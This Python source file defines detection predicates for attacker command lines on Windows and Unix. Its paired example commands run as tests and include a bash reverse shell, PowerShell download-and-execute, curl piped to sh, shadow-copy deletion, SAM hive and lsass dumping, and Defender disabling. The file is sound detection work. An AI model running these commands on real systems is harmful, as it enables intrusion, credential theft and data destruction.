"""What a program can be told that attackers need of it → predicates, one row each: the core of a technique.

A core is what all ways of doing a thing with a program have in common, wherever it is written: an option with all its
names, a verb. It is the part of a rule that is never given up. Every row's examples run as tests.
"""

from dataclasses import dataclass

from longtail.detections.predicates import Item, Predicate, contains, ends, every, flags

Odds = tuple[float, float]
NEVER, RARE, UNUSUAL, SOME, USUAL = 0.001, 0.01, 0.05, 0.15, 0.4
"""How much of a program's lawful use says so, before a fleet has been asked."""


@dataclass(frozen=True, slots=True)
class Core:
    """What one family of programs is told. ``programs`` are file names without ``.exe``, separated by blanks.

    All of ``parts`` must hold. ``enough`` cores say what is meant by themselves; others need something telling beside
    them. ``has`` and ``has_not`` are command lines.
    """

    name: str
    programs: str
    says: str
    parts: tuple[Item, ...]
    usual: float
    enough: bool
    has: str
    has_not: str

    @property
    def predicates(self) -> tuple[Predicate, ...]:
        """The parts; what the core is worth stands on the first."""
        return tuple(
            Predicate(f"{self.name}_{index}" if index else self.name, self.says, (item,), 1.0 if index else self.usual,
                      1.0, self.enough)
            for index, item in enumerate(self.parts)
        )  # fmt: skip


def _core(what: tuple[str, str, str], parts: Item | tuple[Item, ...], usual: float, *examples: str) -> Core:
    """``what`` is the name, with ``!`` where it is enough by itself, the programs and the sentence."""
    name, programs, says = what
    has, has_not = examples
    items = parts if isinstance(parts, tuple) else (parts,)
    return Core(name.rstrip("!"), programs, says, items, usual, name.endswith("!"), has, has_not)


_ENCODED = tuple(f" -{name} " for name in ("e", "ec", "en", "enc", "enco", "encod", "encode", "encoded",
                                           "encodedc", "encodedcommand"))  # fmt: skip
_HIDDEN = (
    " -w hidden",
    " -w 1",
    " -wi hidden",
    " -win hidden",
    " -wind hidden",
    " -windowstyle hidden",
    " -windowstyle 1",
)

WINDOWS: tuple[Core, ...] = (
    _core(("bits_notify!", "bitsadmin", "has a finished download start a program"), flags(" -setnotifycmdline"), NEVER,
          "bitsadmin /setnotifycmdline a c:\\a.exe NUL", "bitsadmin /list"),
    _core(("bits_transfer", "bitsadmin", "fetches a file"), flags(" -transfer", " -addfile"), USUAL,
          "bitsadmin /transfer n http://1.2.3.4/a c:\\a", "bitsadmin /list /allusers"),
    _core(("certutil_fetch", "certutil", "fetches a file"), flags(" -urlcache", " -verifyctl"), SOME,
          "certutil -urlcache -split -f http://a/b c", "certutil -hashfile a SHA256"),
    _core(("certutil_decode", "certutil", "turns text into a program"), flags(" -decode"), SOME,
          "certutil -decode a.b64 a.exe", "certutil -dump a.cer"),
    _core(("powershell_defender!", "powershell pwsh", "weakens Microsoft Defender"),
          contains("set-mppreference", "add-mppreference"), NEVER,
          "powershell Set-MpPreference -DisableRealtimeMonitoring $true", "powershell Get-MpPreference"),
    _core(("powershell_shadows!", "powershell pwsh", "removes shadow copies"),
          every("win32_shadowcopy", "delete"), NEVER,
          'powershell "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }"', "powershell Get-WmiObject x"),
    _core(("powershell_minidump!", "powershell pwsh rundll32", "dumps the memory of another process"),
          contains("comsvcs"), NEVER, "rundll32 C:\\Windows\\System32\\comsvcs.dll,#24 624 a full", "rundll32 a.dll,b"),
    _core(("powershell_subscription!", "powershell pwsh wmic mofcomp", "subscribes a program to events"),
          contains("root\\subscription", "commandlineeventconsumer", "__eventfilter", "activescripteventconsumer"), NEVER,
          "wmic /namespace:\\\\root\\subscription path __EventFilter create", "wmic os get caption"),
    _core(("powershell_user!", "powershell pwsh", "makes a local user"),
          contains("new-localuser", "add-localgroupmember"), UNUSUAL,
          "powershell New-LocalUser -Name x -NoPassword", "powershell Get-LocalUser"),
    _core(("powershell_upload", "powershell pwsh", "sends data away"),
          contains("uploadfile", "uploadstring", "uploaddata"), RARE,
          "powershell (New-Object Net.WebClient).UploadFile('https://a','b')", "powershell Get-Process"),
    _core(("powershell_run_key", "powershell pwsh", "arranges to be run again"),
          every("itemproperty", "currentversion\\run"), NEVER,
          "powershell New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x",
          "powershell Get-Process"),
    _core(("powershell_fetch_run!", "powershell pwsh", "runs what it fetched in memory"),
          (contains("downloadstring", "downloaddata", "invoke-webrequest", "invoke-restmethod", "iwr ", "irm ", "wget "),
           contains("iex", "invoke-expression")), NEVER,
          "powershell IEX(New-Object Net.WebClient).DownloadString('http://a/b')", "powershell iwr http://a -OutFile b"),
    _core(("powershell_bytes", "powershell pwsh", "writes a program out of text"),
          contains("frombase64string", "writeallbytes"), UNUSUAL,
          "powershell [IO.File]::WriteAllBytes('a',[Convert]::FromBase64String(b))", "powershell Get-Process"),
    _core(("powershell_encoded", "powershell pwsh", "is given encoded code"), flags(*_ENCODED), SOME,
          "powershell -nop -w hidden -enc SQBFAFgA", "powershell -ExecutionPolicy Bypass -File a.ps1"),
    _core(("powershell_fetch", "powershell pwsh", "fetches a file"),
          contains("downloadfile", "downloadstring", "downloaddata", "invoke-webrequest", "invoke-restmethod", "iwr ",
                   "irm ", "start-bitstransfer", "net.webclient"), SOME,
          "powershell iwr http://a/b -o c:\\b", "powershell Get-Process"),
    _core(("powershell_compile", "powershell pwsh", "compiles a program"), every("add-type", "-outputassembly"), RARE,
          "powershell Add-Type -Path a.cs -OutputAssembly b.dll", "powershell Add-Type -AssemblyName x"),
    _core(("powershell_file", "powershell pwsh", "runs a script"), flags(" -file ", " -f "), USUAL,
          "powershell -ExecutionPolicy Bypass -File a.ps1", "powershell Get-Process"),
    _core(("regsvr32_scriptlet!", "regsvr32", "runs a scriptlet"), contains("scrobj"), NEVER,
          "regsvr32 /s /n /u /i:http://a/b.sct scrobj.dll", "regsvr32 /s a.dll"),
    _core(("mshta_script!", "mshta", "runs a script"), contains("vbscript:", "javascript:"), NEVER,
          'mshta vbscript:Execute("a")', "mshta a.hta"),
    _core(("wmic_shadows!", "wmic", "removes shadow copies"), every("shadowcopy", "delete"), NEVER,
          "wmic shadowcopy delete", "wmic shadowcopy list"),
    _core(("wmic_create", "wmic", "starts a process"), every("process", "call", "create"), UNUSUAL,
          'wmic /node:a process call create "b"', "wmic process get caption"),
    _core(("wmic_format", "wmic", "runs a style sheet"), contains("format:"), SOME,
          'wmic os get /format:"http://a/b.xsl"', "wmic os get caption"),
    _core(("wmic_desktop!", "wmic", "lets remote desktops in"), contains("rdtoggle", "setallowtsconnections"), NEVER,
          "wmic rdtoggle where ServerName='a' call SetAllowTSConnections 1", "wmic os get caption"),
    _core(("user_added", "net", "makes a user"), (contains(" user "), flags(" -add")), UNUSUAL,
          "net user x y /add", "net user x /domain"),
    _core(("administrator_added!", "net", "makes an administrator or lets someone in from afar"),
          (contains("localgroup"), contains("administrators", "remote desktop users", "administratoren"), flags(" -add")),
          NEVER, "net localgroup administrators x /add", "net localgroup administrators"),
    _core(("domain_asked", "net", "asks the domain for its administrators or machines"),
          contains("domain admins", "domain computers", "enterprise admins", "domain controllers"), SOME,
          'net group "domain admins" /domain', "net user"),
    _core(("service_stopped", "net", "stops a service"), contains(" stop "), SOME, "net stop x /y", "net start x"),
    _core(("admin_share", "net", "takes hold of another machine's disk"), contains("$"), SOME,
          "net use \\\\a\\c$ b /user:c", "net use"),
    _core(("service_made", "sc", "makes a service"), every("create", "binpath"), UNUSUAL,
          'sc create a binPath= "b" start= auto', "sc query a"),
    _core(("service_removed", "sc", "stops or removes a service"), contains(" stop ", " delete "), SOME,
          "sc delete a", "sc query a"),
    _core(("task_made", "schtasks", "makes a scheduled task"), flags(" -create"), SOME,
          "schtasks /create /tn a /tr b", "schtasks /query"),
    _core(("hives_saved!", "reg", "copies the hives that keep credentials"),
          (contains(" save ", " export "), contains("hklm\\sam", "hklm\\security", "hklm\\system", "local_machine\\sam",
                                                     "local_machine\\security", "local_machine\\system")), NEVER,
          "reg save HKLM\\SAM a", "reg query HKLM\\SAM"),
    _core(("run_key", "reg", "arranges to be run again"), (contains(" add "), contains("currentversion\\run")), UNUSUAL,
          "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b", "reg query HKLM\\a"),
    _core(("debugger_key!", "reg", "hangs a program before another"),
          (contains(" add "), contains("image file execution options", "winlogon", "silentprocessexit", "appinit_dlls")),
          NEVER, 'reg add "HKLM\\x\\Image File Execution Options\\sethc.exe" /v Debugger /d a', "reg query a"),
    _core(("desktop_key!", "reg", "lets remote desktops in"),
          (contains(" add "), contains("fdenytsconnections", "winstations\\rdp-tcp")), NEVER,
          'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /d 0', "reg query a"),
    _core(("shadows_removed!", "vssadmin wbadmin diskshadow", "removes what can be restored"),
          contains("delete", "resize"), NEVER, "vssadmin delete shadows /all", "vssadmin list shadows"),
    _core(("shadow_made", "vssadmin", "makes a shadow copy"), contains("create"), UNUSUAL,
          "vssadmin create shadow /for=C:", "vssadmin list shadows"),
    _core(("recovery_off!", "bcdedit", "switches recovery off"), contains("recoveryenabled", "ignoreallfailures"), NEVER,
          "bcdedit /set {default} recoveryenabled no", "bcdedit /enum"),
    _core(("log_cleared!", "wevtutil", "clears an event log"), contains(" cl ", " clear-log "), NEVER,
          "wevtutil cl security", "wevtutil qe Application"),
    _core(("disk_wiped!", "cipher", "wipes what was deleted"), flags(" -w:"), NEVER, "cipher /w:D:", "cipher /e a"),
    _core(("port_forwarded!", "netsh", "forwards a port"), every("portproxy", "add"), NEVER,
          "netsh interface portproxy add v4tov4 listenport=1", "netsh interface show"),
    _core(("firewall_off!", "netsh", "opens the firewall to remote desktops, or all of it"),
          contains("state off", "opmode disable", "opmode mode=disable", "remote desktop", "remotedesktop"), RARE,
          "netsh advfirewall set allprofiles state off", "netsh advfirewall show allprofiles"),
    _core(("firewall_rule", "netsh", "opens a port"), every("firewall", "add", "allow"), SOME,
          "netsh advfirewall firewall add rule name=a dir=in action=allow", "netsh advfirewall show allprofiles"),
    _core(("network_policy", "netsh", "changes who may connect"), every("ipsec", "add"), UNUSUAL,
          "netsh ipsec static add policy name=a", "netsh ipsec show"),
    _core(("process_ended", "taskkill tskill pskill pskill64", "ends a process"), flags(" -im ", " -pid ", " -f "), 0.9,
          "taskkill /im a.exe /f", "taskkill /?"),
    _core(("debugged_to_death!", "ntsd cdb", "ends a process by debugging it"),
          (flags(" -pn ", " -p "), flags(" -c q", " -c \"q")), NEVER, "ntsd -c q -pn a.exe", "ntsd -z a.dmp"),
    _core(("ftp_script", "ftp", "is told what to do by a script"), flags(" -s:"), 0.8, "ftp -s:a", "ftp a"),
    _core(("image_downloader!", "desktopimgdownldr", "fetches a file"), contains("lockscreenurl"), NEVER,
          "desktopimgdownldr /lockscreenurl:http://a /eventName:b", "desktopimgdownldr"),
    _core(("finger!", "finger", "asks another machine"), contains("@"), NEVER, "finger a@b", "finger"),
    _core(("curl_upload", "curl", "sends data away"), contains(" -t ", " -f \"", " --upload-file ", " -f file=", "=@"),
          UNUSUAL, 'curl -F "file=@a" https://b', "curl https://a"),
    _core(("curl_fetch", "curl wget", "fetches a file"), contains(" -o ", " --output ", " -so ", " -lo ", " -ko "), USUAL,
          "curl -s -o a http://b", "curl https://b"),
    _core(("esentutl_copy", "esentutl", "copies a file"), flags(" -y "), UNUSUAL, "esentutl /y \\\\a\\b /d c", "esentutl /p a"),
    _core(("unpacked", "expand extrac32 makecab", "packs or unpacks a file"), contains(" "), 0.9,
          "expand \\\\a\\b.cab c", "expand"),
    _core(("library_run", "rundll32", "runs a library"), contains(","), 0.9, "rundll32 a.dll,b", "rundll32"),
    _core(("script_posing", "cscript wscript", "runs a script under another ending"),
          contains(" //e:", " /e:"), UNUSUAL, "cscript //e:jscript a.txt", "cscript a.vbs"),
    _core(("script_run", "cscript wscript mshta", "runs a script"), contains(".vbs", ".js", ".hta", ".wsf", "://"), 0.8,
          "cscript a.vbs", "cscript //nologo"),
    _core(("compiled", "csc vbc jsc", "compiles a program"), flags(" -out:", " -t:"), USUAL,
          "csc.exe /out:a.exe a.cs", "csc.exe /noconfig @a"),
    _core(("installer_run", "installutil regasm regsvcs", "runs a library as an installer"),
          flags(" -u", " -logfile="), USUAL, "InstallUtil.exe /logfile= /U a.exe", "InstallUtil.exe a"),
    _core(("module_added!", "appcmd", "hangs a module into the web server"),
          (contains("module"), contains(" add ", " install ", " set ")), NEVER, "appcmd.exe add module /name:a",
          "appcmd.exe list site"),
    _core(("passwords_listed!", "appcmd", "lists passwords"), contains(".password", "/config"), NEVER,
          'appcmd.exe list apppool "a" /text:processmodel.password', "appcmd.exe list site"),
    _core(("passwords_sought!", "findstr", "looks for passwords in files"), contains("password"), UNUSUAL,
          'findstr /si "connectionString password" *.config', "findstr error a.log"),
    _core(("trusts_listed!", "nltest", "asks for the domain's trusts and controllers"),
          contains("domain_trusts", "dclist", "trusted_domains"), UNUSUAL, "nltest /domain_trusts", "nltest /dsgetdc:a"),
    _core(("directory_dumped!", "dsquery adfind", "lists the directory"), contains(" -filter", " -f "), UNUSUAL,
          'dsquery * -filter "a" -limit 0', "dsquery user"),
    _core(("hidden_file", "attrib", "hides a file"), contains("+h"), SOME, "attrib +h +s a", "attrib -r a"),
    _core(("access_given", "icacls cacls", "gives or takes access"), flags(" -grant", " -e ", " -d "), USUAL,
          "icacls a /grant Everyone:F", "icacls a"),
    _core(("reverse_forward!", "ssh plink", "opens a way back in"), contains(" -r "), UNUSUAL,
          "ssh.exe -N -R 1:127.0.0.1:3389 a@b", "ssh a@b"),
    _core(("hashes_asked!", "sqlcmd osql bcp isql", "takes the logins' password hashes"),
          contains("password_hash", "sql_logins"), NEVER, 'sqlcmd -Q "select name,password_hash from sys.sql_logins"',
          'sqlcmd -Q "select 1"'),
    _core(("role_given!", "sqlcmd osql isql", "makes a login an administrator"),
          (contains("sysadmin"), contains("add member", "sp_addsrvrolemember")), NEVER,
          'sqlcmd -Q "ALTER SERVER ROLE sysadmin ADD MEMBER [a]"', 'sqlcmd -Q "select 1"'),
    _core(("archive_with_password", "rar 7z 7za winrar", "packs files under a password"), contains(" -hp", " -p"), SOME,
          "7z.exe a -pabc b.7z c", "7z a b.7z c"),
)  # fmt: skip

SHELLS: tuple[Core, ...] = (
    _core(("ntds_copied!", "cmd", "copies what only a shadow copy gives away"), contains("harddiskvolumeshadowcopy"), NEVER,
          "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\a b", "cmd /c copy a b"),
    _core(("script_echoed!", "cmd", "writes a script of FTP commands with echo"),
          (contains("echo "), contains(">"), contains("echo open ", "echo user ", "echo get ", "echo bye", "echo binary")),
          NEVER, "cmd /c echo open 1.2.3.4>a", "cmd /c echo done>a.log"),
    _core(("downloader_echoed!", "cmd", "writes a downloader with echo"),
          (contains("echo "), contains(">"), contains("xmlhttp", "createobject", "adodb.stream", "wscript.shell")), NEVER,
          'cmd /c echo Set x=CreateObject("Microsoft.XMLHTTP")>a.vbs', "cmd /c echo done>a.log"),
    _core(("system_program_copied", "cmd", "copies a program of the system to another place"),
          (contains("copy "), contains("\\system32\\"), contains(".exe ")), UNUSUAL,
          "cmd /c copy C:\\Windows\\System32\\rundll32.exe c:\\a\\b.exe", "cmd /c copy a b"),
    _core(("copied", "cmd", "copies a file"), contains("copy "), USUAL, "cmd /c copy a b", "cmd /c dir"),
    _core(("passwords_listed_by_name!", "cmd", "looks for files by names like passwords"),
          (contains("dir "), contains("pass", ".kdbx", ".pst")), RARE, "cmd /c dir /s /b C:\\*pass*.txt", "cmd /c dir C:\\"),
    _core(("backups_removed", "cmd", "removes backups"), (contains("del "), contains(".bak")), USUAL,
          "cmd /c del /s /f /q D:\\a\\*.bak", "cmd /c dir *.bak"),
    _core(("piped_to_shell!", "sh bash dash", "runs what it fetches at once"),
          (contains("curl", "wget", "base64", "fetch "), contains("| sh", "|sh", "| bash", "|bash", "|{bash", "| /bin/sh")),
          NEVER, "sh -c curl -s http://a/b | sh", "sh -c curl -s http://a/b | tar xz"),
    _core(("connection_shell!", "sh bash dash", "connects a shell to another machine"),
          contains("/dev/tcp/", "/dev/udp/", "inet_aton(", "pty.spawn", "socket.socket("), NEVER,
          "sh -c bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "sh -c ls"),
    _core(("keys_added!", "sh bash dash", "lets a key in"), contains("authorized_keys"), NEVER,
          "sh -c echo a >> ~/.ssh/authorized_keys", "sh -c ls ~/.ssh"),
    _core(("timetable_changed", "sh bash dash", "changes what runs when"), (contains("crontab"), contains("| crontab", "crontab -r")),
          UNUSUAL, 'sh -c (crontab -l; echo "@reboot a") | crontab -', "sh -c crontab -l"),
    _core(("made_executable", "sh bash dash chmod", "makes a file executable"), contains("chmod 7", "chmod +x", "chmod a+x"), SOME,
          "sh -c chmod +x /tmp/a", "sh -c ls"),
    _core(("shadow_read!", "sh bash dash cat", "reads the password file"), contains("/etc/shadow"), NEVER,
          "sh -c cat /etc/shadow", "sh -c cat /etc/hosts"),
    _core(("setuid_sought!", "sh bash dash find", "looks for programs that give rights"), contains("-perm -4", "-perm -u=s"), NEVER,
          "find / -perm -4000 -type f", "find / -name a"),
    _core(("fetched_in_shell", "sh bash dash", "fetches a file"), contains("wget ", "curl "), SOME,
          "sh -c wget -q a -O /tmp/b", "sh -c ls"),
    _core(("fetched", "curl wget busybox", "fetches a file"), contains(" -o ", " --output", " -so ", " -qo "), USUAL,
          "wget -q a -O /tmp/b", "wget a"),
    _core(("miner_ended", "sh bash dash pkill killall", "ends other programs"), contains("pkill", "killall"), SOME,
          "pkill -9 -f xmrig", "sh -c ls"),
    _core(("connected_from_code!", "python python3 perl ruby php", "connects or fetches from code given on the spot"),
          contains("socket(", "socket.socket", "inet_aton", "urlopen", "urllib", "pty.spawn"), NEVER,
          "python3 -c 'import socket;s=socket.socket()'", "python3 a.py"),
)  # fmt: skip

DROPPED: tuple[Core, ...] = (
    _core(("potato!", "*", "turns a service's right to impersonate into the system's"),
          (flags(" -p ", " -c ", " -cmd "), contains('"cmd', '"/c ', '"powershell')),
          RARE, 'a.exe -cmd "cmd /c whoami"', "a.exe -c b"),
    _core(("memory_taken!", "*", "dumps the memory of the process that keeps the credentials"), contains("lsass"), 0.002,
          "procdump64.exe -ma lsass.exe a.dmp", "procdump64.exe a"),
    _core(("mined!", "*", "mines coins"), contains("stratum+tcp", "stratum+ssl", "--donate-level", "--coin="), 0.0005,
          "a.exe -o stratum+tcp://b -u c", "a.exe -o b"),
    _core(("tunnel_made!", "*", "opens a tunnel"),
          contains("tcp 3389", "rdp://", ":socks", ":3389 ", "--authtoken ", "tunnel --url"), 0.001,
          "a.exe tcp 3389 --authtoken b", "a.exe tcp"),
    _core(("sent_to_cloud", "*", "sends files to a storage in the cloud"),
          contains("--no-check-certificate", " mega:", "--transfers "), UNUSUAL,
          "rclone.exe copy a b: --no-check-certificate", "a.exe copy b"),
    _core(("renamed_certutil!", "*", "is certutil under another name"), flags(" -urlcache ", " -verifyctl "), 0.002,
          "a.exe -urlcache -f http://b c", "a.exe b"),
    _core(("renamed_powershell!", "*", "is PowerShell under another name"),
          (flags(" -nop ", " -noprofile ", " -enc ", " -w hidden", " -ep bypass"), contains("iex", "downloadstring", "invoke-", "irm ", "iwr ")),
          0.002, "a.exe -nop -c iex(irm http://b)", "a.exe -nop"),
    _core(("remote_run!", "*", "runs something on another machine"), (contains(" \\\\"), flags(" -accepteula", " -s ", " -d "), contains("cmd")), 0.003,
          "psexec.exe \\\\a -accepteula -s -d cmd.exe /c b", "psexec \\\\a"),
)  # fmt: skip
"""What programs that attackers bring along are told, under whatever name."""

OUT_OF_PLACE = "out_of_place"
SYSTEM_PLACES = ("\\windows\\system32\\", "\\windows\\syswow64\\", "\\windows\\winsxs\\", "\\windows\\servicing\\",
                 "\\windows\\microsoft.net\\")  # fmt: skip


def out_of_place(name: str) -> tuple[Predicate, ...]:
    """Predicates of a program that bears a system program's name and lies elsewhere."""
    says = "bears the name of a program of the system and lies elsewhere"
    return (
        Predicate("program", says, (ends(f"\\{name}"),), 0.02, 1.0),
        Predicate("place", "lies where the system keeps its programs", (contains(*SYSTEM_PLACES, field="Image"),),
                  0.1, 1.0, negated=True),
    )  # fmt: skip


ALL: tuple[Core, ...] = (*WINDOWS, *SHELLS, *DROPPED)
